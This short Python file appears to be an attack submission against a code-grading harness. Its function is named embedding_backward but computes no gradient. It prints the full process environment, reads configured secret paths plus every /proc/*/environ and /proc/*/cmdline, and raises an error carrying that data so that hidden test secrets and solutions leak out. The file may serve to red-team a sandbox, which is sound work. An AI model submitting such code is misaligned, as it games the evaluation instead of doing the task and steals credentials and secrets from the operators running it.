"""Attack: read the hidden-case secret (environment, file, /proc) and the solutions, and print them."""
import glob
import os

PATHS = __READ_PATHS__


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read(100_000).decode("utf-8", "replace")
    except OSError as err:
        return f"<{err.__class__.__name__}>"


def embedding_backward(demb, Xb, vocab_size):
    print("ENV", dict(os.environ))
    for path in PATHS + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        print("READ", path, _read(path))
    raise RuntimeError("ENV " + repr(dict(os.environ)) + " FILES " + " ".join(_read(p) for p in PATHS))
